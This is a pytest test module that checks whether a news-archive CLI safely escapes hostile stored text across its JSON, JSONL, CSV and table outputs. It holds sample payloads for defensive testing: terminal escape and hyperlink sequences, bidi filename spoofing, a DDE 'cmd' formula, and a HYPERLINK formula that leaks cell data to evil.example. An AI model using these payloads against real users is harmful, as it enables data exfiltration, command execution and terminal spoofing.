"""Hostile stored text through the listing commands' output (``--format
table|json|jsonl|csv``): controls, ANSI escapes, bidi overrides, line breaks, formula
prefixes, quotes and separators, very long and CJK text in titles, story titles, source names,
publishers, guids, errors and notes.

The archive is a real SQLite database written through the crawler's storage path
(:func:`crawler.store.store_many`, :func:`crawler.state.record_success` and
``record_failure``); the commands run as the real CLI: in-process with stdout a pipe, and as
a subprocess on a pseudo-terminal. What a serious tool does with such text:

- json / jsonl: valid, one record a line for jsonl, every value exactly as stored, and no raw
  control, bidi or separator character in the bytes written;
- csv: parses back with the csv module to the stored value, except that a cell a spreadsheet
  would run as a formula starts with ``'`` (OWASP);
- table (piped or on a terminal): no raw control or escape character from stored text,
  which is shown with visible escapes instead; one line per row when piped.

Crawled titles are cleaned before they are stored (crawler.text), but an archive also holds
text written by older versions and other tools, guids (kept as published), errors from the
remote end and source names from the configuration: the output must not rely on it.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import pty
import re
import select
import struct
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from fcntl import ioctl
from pathlib import Path
from termios import TIOCSWINSZ
from typing import Any

import pytest
import yaml
from sqlalchemy import select as sql_select
from typer.testing import CliRunner

from crawler.db import make_engine, session_factory
from crawler.items import Entry
from crawler.models import Article, Source, Story
from crawler.normalize import normalize
from crawler.state import record_failure, record_success, sync_sources
from crawler.store import store_many
from scheduler.cli import app
from scheduler.config import load_config
from scheduler.migrate import upgrade
from tests.alerts.conftest import add_delivery

REPO = Path(__file__).resolve().parents[2]
WIREWATCH = str(Path(sys.executable).with_name("wirewatch"))

# One row per hostile text; each ends in "Taiwan MOU" so the backtest matches it too.
CASES: dict[str, str] = {
    "osc8_link": "\x1b]8;;http://evil.example/\x07click me\x1b]8;;\x07 Taiwan MOU",
    "clear_screen": "\x1b[2J\x1b[H\x1b[31mred Taiwan MOU",
    "nul_cr_bell": "nul\x00 cr\r bell\x07 bs\x08 Taiwan MOU",
    "newlines": "line one\nline two\r\nline three Taiwan MOU",
    "bidi_override": "\u202egnp.exe Taiwan MOU\u202c \u2066isolate\u2069",
    "c1_and_del": "csi\x9b2J nel\x85 del\x7f Taiwan MOU",
    "line_separators": "a\u2028b\u2029c Taiwan MOU",
    "formula_hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"click") Taiwan MOU',
    "formula_plus": "+1+cmd|' /C calc'!A0 Taiwan MOU",
    "formula_minus": "-2+3 Taiwan MOU",
    "formula_at": "@SUM(1,2) Taiwan MOU",
    "formula_tab": "\t=1+1 tab Taiwan MOU",
    "formula_cr": "\r=2+2 carriage return Taiwan MOU",
    "quotes_separators": 'say "hi", then; go\t| \'x\' "" ,,, Taiwan MOU',
    "cjk_fullwidth": "台美簽署專利授權合作備忘錄，「智慧財產」（ＭＯＵ）！　全形。Taiwan MOU",
    "very_long": "長" * 20_000 + " " + "x" * 30_000 + " Taiwan MOU",
}
NAMES = list(CASES)
FORMATS = ("json", "jsonl", "csv", "table")
# Raw characters that must never reach the reader from stored text (besides \n between
# lines): C0 and C1 controls, DEL, bidi controls, line and paragraph separators.
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
FORMULA = ("=", "+", "-", "@", "\t", "\r")  # OWASP: cells a spreadsheet runs
SGR = re.compile(r"\x1b\[[0-9;]*m")  # rich's own styling on a terminal


@dataclass
class Archive:
    config: Path
    # command -> row key -> field -> the value as stored (read back from the database)
    stored: dict[str, dict[str, dict[str, Any]]]
    outputs: dict[tuple[str, str], bytes]


COMMANDS: dict[str, tuple[str, ...]] = {
    "articles": ("articles", "-n", "500"),
    "sources": ("sources",),
    "alerts": ("alerts", "-n", "500"),
    "backtest": ("backtest", "mou", "--since", "3650d", "-n", "500"),
    "check": ("check",),
}
KEYS = {"articles": "id", "sources": "id", "alerts": "id", "backtest": "article_id"}


def _write_config(root: Path, db: str) -> None:
    (root / "watchlists").mkdir(parents=True)
    (root / "wirewatch.yaml").write_text(f"database_url: {db}\ntimezone: Asia/Taipei\n")
    sources = [
        {"id": f"evil-{i}", "name": text, "type": "rss", "url": f"https://evil{i}.example/feed"}
        for i, text in enumerate(CASES.values())
    ]
    (root / "sources.yaml").write_text(yaml.safe_dump({"sources": sources}, allow_unicode=True))
    (root / "watchlists" / "mou.yaml").write_text(
        "groups:\n  m: [MOU]\nmatch: m\nnotify:\n  - channel: console\n"
    )


def _fill(db: str, root: Path) -> dict[str, dict[str, dict[str, Any]]]:
    """Store every case through the storage path; return what the database holds."""
    engine = make_engine(db)
    upgrade(engine)
    sessions = session_factory(engine)
    config = load_config(root)
    now = datetime.now(UTC)
    with sessions.begin() as s:
        sync_sources(s, config.sources.sources)
    items = []
    for i, text in enumerate(CASES.values()):
        source = f"evil-{i}"
        linked = normalize(Entry(source, f"https://evil{i}.example/a", title=text, guid=f"g{i}"))
        assert linked is not None
        # The stored text of an older version or another writer (the crawler cleans titles).
        items.append(dataclasses.replace(linked, title=text, publisher=text))
        # A guid-only entry: the guid is kept as published.
        bare = normalize(Entry(source, "", title=f"no link {i}", guid=f"{text} {i}"))
        assert bare is not None and bare.guid is not None
        items.append(bare)
    results = store_many(sessions, items, baseline=False, now=now - timedelta(hours=1))
    assert all(r.article_id for r in results), [r.error for r in results]
    stories: set[int | None] = set()
    with sessions.begin() as s:
        for i, text in enumerate(CASES.values()):
            kwargs: dict[str, Any] = {"now": now, "interval": timedelta(hours=1)}
            record_success(s, f"evil-{i}", notes=[text, "second note"], found=2, **kwargs)
            record_failure(s, f"evil-{i}", error=text, status=500, **kwargs)
        for art in s.scalars(sql_select(Article).where(Article.url != "")):
            assert art.story_id not in stories, f"{art.title!r} joined another case's story"
            stories.add(art.story_id)
            delivery = add_delivery(s, art, "console", watchlist="mou")
            delivery.status, delivery.last_error = "dead", art.title
    stored: dict[str, dict[str, dict[str, Any]]] = {}
    names = {src.id: src.label for src in config.sources.sources}
    with sessions() as s:
        arts = list(s.scalars(sql_select(Article)))
        stored["articles"] = {
            str(a.id): {
                "title": a.title,
                "publisher": a.publisher,
                "guid": a.guid,
                "source": names[a.source_id],
            }
            for a in arts
        }
        stored["backtest"] = {
            str(a.id): {"title": a.title, "source": names[a.source_id]} for a in arts if a.url
        }
        stored["sources"] = {
            src.id: {
                "name": names[src.id],
                "last_error": src.last_error,
                "last_poll_notes": (src.last_poll_notes or "").splitlines(),
            }
            for src in s.scalars(sql_select(Source))
        }
        titles = {st.id: st.title for st in s.scalars(sql_select(Story))}
        from alerts.models import Delivery

        stored["alerts"] = {
            str(d.id): {"story_title": titles[d.story_id], "last_error": d.last_error}
            for d in s.scalars(sql_select(Delivery))
        }
    stored["check"] = {f"evil-{i}": {"label": text} for i, text in enumerate(CASES.values())}
    engine.dispose()
    for text in CASES.values():  # each case is stored as it is, not cleaned on the way
        assert any(r["title"] == text for r in stored["articles"].values())
    return stored


def _cli(config: Path, *args: str) -> bytes:
    """stdout of ``wirewatch ARGS`` run in-process with stdout a pipe."""
    result = CliRunner().invoke(
        app, list(args), env={"WIREWATCH_CONFIG": str(config), "COLUMNS": "80"}
    )
    assert result.exit_code == 0, (result.output, result.exception)
    return result.stdout_bytes


def _on_terminal(config: Path, *args: str, columns: int = 160) -> bytes:
    """Everything ``wirewatch ARGS`` writes to a pseudo-terminal ``columns`` wide."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("WIREWATCH_", "COLUMNS"))}
    env |= {"WIREWATCH_CONFIG": str(config), "TERM": "xterm-256color"}
    env.pop("NO_COLOR", None)
    main, side = pty.openpty()
    ioctl(side, TIOCSWINSZ, struct.pack("HHHH", 50, columns, 0, 0))
    proc = subprocess.Popen(
        [WIREWATCH, *args], stdin=side, stdout=side, stderr=subprocess.DEVNULL, cwd=REPO, env=env
    )
    os.close(side)
    chunks = []
    try:
        while True:
            ready, _, _ = select.select([main], [], [], 120)
            assert ready, "no output from the command for 120 s"
            try:
                chunk = os.read(main, 65536)
            except OSError:  # EIO: the terminal's other side closed
                break
            if not chunk:
                break
            chunks.append(chunk)
    finally:
        os.close(main)
        assert proc.wait(timeout=60) == 0
    return b"".join(chunks)


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Archive]:
    tmp = tmp_path_factory.mktemp("hostile-output")
    root = tmp / "config"
    db = f"sqlite:///{tmp / 'ww.db'}"
    _write_config(root, db)
    stored = _fill(db, root)
    yield Archive(root, stored, {})


def output(archive: Archive, command: str, fmt: str) -> bytes:
    """The command's stdout in ``fmt`` (run once per module)."""
    if (command, fmt) not in archive.outputs:
        args = COMMANDS[command] if fmt == "table" else (*COMMANDS[command], "-F", fmt)
        archive.outputs[command, fmt] = _cli(archive.config, *args)
    return archive.outputs[command, fmt]


def _records(command: str, rows: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    if command == "check":
        return {r["name"]: r for r in rows if r["kind"] == "source"}
    return {str(r[KEYS[command]]): r for r in rows}


def _parsed(archive: Archive, command: str, fmt: str) -> dict[str, dict[str, Any]]:
    raw = output(archive, command, fmt)
    text = raw.decode("utf-8")  # strict: no lone surrogate or broken byte
    if fmt == "json":
        return _records(command, json.loads(text))
    if fmt == "jsonl":
        lines = text.split("\n")
        assert lines[-1] == "", "jsonl output does not end in a newline"
        # One record a line, also for readers that split on U+2028 or \r.
        assert text.splitlines() == lines[:-1]
        return _records(command, [json.loads(line) for line in lines[:-1]])
    return _records(command, list(csv.DictReader(io.StringIO(text, newline=""))))


def _expected(command: str, fmt: str, value: Any) -> Any:
    if fmt != "csv":
        return value
    if isinstance(value, list):
        value = "; ".join(value)
    value = value or ""
    return "'" + value if value.startswith(FORMULA) else value


@pytest.mark.parametrize("fmt", ["json", "jsonl", "csv"])
@pytest.mark.parametrize("command", list(COMMANDS))
def test_machine_formats_carry_stored_text_exactly(
    archive: Archive, command: str, fmt: str
) -> None:
    records = _parsed(archive, command, fmt)
    stored = archive.stored[command]
    assert set(stored) <= set(records), set(stored) - set(records)
    wrong = [
        (key, field, value, records[key][field])
        for key, fields in stored.items()
        for field, value in fields.items()
        if records[key][field] != _expected(command, fmt, value)
    ]
    assert not wrong, wrong[:3]


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
@pytest.mark.parametrize("command", list(COMMANDS))
def test_json_escapes_every_control_bidi_and_separator(
    archive: Archive, command: str, fmt: str
) -> None:
    text = output(archive, command, fmt).decode("utf-8")
    assert not RAW.search(text), RAW.search(text)
    assert "台美簽署專利授權合作備忘錄，「智慧財產」（ＭＯＵ）！" in text  # CJK stays readable


@pytest.mark.parametrize("command", list(COMMANDS))
def test_csv_cells_never_start_a_formula(archive: Archive, command: str) -> None:
    text = output(archive, command, "csv").decode("utf-8")
    for record in csv.DictReader(io.StringIO(text, newline="")):
        for field, cell in record.items():
            assert not cell.startswith(FORMULA), (field, cell[:40])


@pytest.mark.parametrize("name", NAMES)
def test_csv_neutralises_formulas_the_owasp_way(archive: Archive, name: str) -> None:
    """A formula cell reads back as ``'`` + the stored text; any other cell as stored."""
    text = CASES[name]
    records = _parsed(archive, "articles", "csv")
    (row,) = [r for r in records.values() if r["title"].endswith(text)]
    assert row["title"] == ("'" + text if text.startswith(FORMULA) else text)
    assert row["publisher"] == row["title"]


def _shown(text: str) -> str:
    """The start of the case as the table must show it: \\t \\n \\r, \\xNN, \\uNNNN."""
    short = {"\t": "\\t", "\n": "\\n", "\r": "\\r"}

    def escape(m: re.Match[str]) -> str:
        ch = m.group()
        return short.get(ch) or (f"\\x{ord(ch):02x}" if ord(ch) < 256 else f"\\u{ord(ch):04x}")

    return re.sub(f"[\n{RAW.pattern[1:-1]}]", escape, text)[:20]


@pytest.mark.parametrize("command", ["articles", "sources", "alerts", "backtest"])
def test_piped_table_shows_escapes_never_raw_controls(archive: Archive, command: str) -> None:
    text = output(archive, command, "table").decode("utf-8")
    assert not RAW.search(text), RAW.search(text)
    body = [line for line in text.splitlines() if line.startswith("│")]
    if command == "articles":  # two articles per case, one line each
        assert len(body) == 2 * len(CASES), "a stored line break split a row"
    shown = ["\\x1b]8;;http://evil.example/\\x07click me", "\\u202egnp.exe", "line one\\nline"]
    for piece in shown + [_shown(t) for t in CASES.values()]:
        assert piece in text, piece


@pytest.mark.parametrize("command", ["articles", "sources", "alerts", "backtest"])
def test_table_on_a_terminal_cannot_drive_it(archive: Archive, command: str) -> None:
    raw = _on_terminal(archive.config, *COMMANDS[command])
    text = SGR.sub("", raw.decode("utf-8"))
    assert "\x1b" not in text and "\x07" not in text, text[max(0, text.find("\x1b") - 40) :][:80]
    assert not RAW.search(text.replace("\r\n", "\n")), RAW.search(text)
    assert "\\x1b" in text and "\\u202e" in text  # shown, visibly
    assert "（ＭＯＵ）！" in text  # CJK full-width punctuation as stored


def test_lone_surrogates_are_not_storable() -> None:
    """A lone surrogate cannot reach the archive (UTF-8 storage refuses it); the crawler
    drops them before storing anyway (crawler.text)."""
    import sqlite3

    with sqlite3.connect(":memory:") as db:
        db.execute("create table t (title text)")
        with pytest.raises(UnicodeEncodeError):
            db.execute("insert into t values (?)", ("Taiwan \ud800 MOU",))


def test_a_lone_surrogate_in_a_source_name(tmp_path: Path) -> None:
    """A configured name can hold one (YAML "\\ud800"): JSON carries it as an escape that
    decodes to it, CSV and the table show its escape; nothing crashes on UTF-8 output."""
    root = tmp_path / "config"
    root.mkdir()
    (root / "wirewatch.yaml").write_text(f"database_url: sqlite:///{tmp_path / 'w.db'}\n")
    (root / "sources.yaml").write_text(
        'sources:\n  - id: s\n    name: "=a\\ud800b"\n    type: rss\n'
        "    url: https://s.example/feed\n"
    )
    rows = json.loads(_cli(root, "check", "-F", "json"))
    assert rows[0]["label"] == "=a\ud800b"
    text = _cli(root, "check", "-F", "csv").decode()
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    assert row["label"] == "'=a\\ud800b"


def _in_latin1(config: Path, *args: str) -> bytes:
    """stdout of ``wirewatch ARGS`` as a process whose output encoding is Latin-1 (a
    non-UTF-8 locale or console), piped."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("WIREWATCH_")}
    env |= {"WIREWATCH_CONFIG": str(config), "PYTHONIOENCODING": "latin-1"}
    proc = subprocess.run([WIREWATCH, *args], capture_output=True, env=env, timeout=120)
    assert proc.returncode == 0, proc.stderr.decode("latin-1")[-2000:]
    return proc.stdout


@pytest.mark.parametrize("command", ["articles", "check"])
def test_an_output_that_cannot_encode_stored_text_gets_escapes_not_a_crash(
    archive: Archive, command: str
) -> None:
    """CJK and other text Latin-1 lacks: JSON becomes ASCII and decodes to exactly what a
    UTF-8 output carries; CSV and tables show the characters as escapes (``\\u53f0``)."""
    json_out = _in_latin1(archive.config, *COMMANDS[command], "-F", "json")
    assert json_out.isascii()
    assert json.loads(json_out) == json.loads(output(archive, command, "json"))
    lines = _in_latin1(archive.config, *COMMANDS[command], "-F", "jsonl").splitlines()
    assert [json.loads(line) for line in lines] == json.loads(json_out)
    cjk = CASES["cjk_fullwidth"]
    shown = cjk.encode("latin-1", "backslashreplace").decode("latin-1")
    text = _in_latin1(archive.config, *COMMANDS[command], "-F", "csv").decode("latin-1")
    csv.field_size_limit(1 << 24)  # "very_long": 20,000 CJK characters, six bytes each
    cells = {v for row in csv.DictReader(io.StringIO(text, newline="")) for v in row.values()}
    assert shown in cells
    table = _in_latin1(archive.config, *COMMANDS[command]).decode("latin-1")
    assert shown[:40] in table if command == "articles" else "Sources" in table
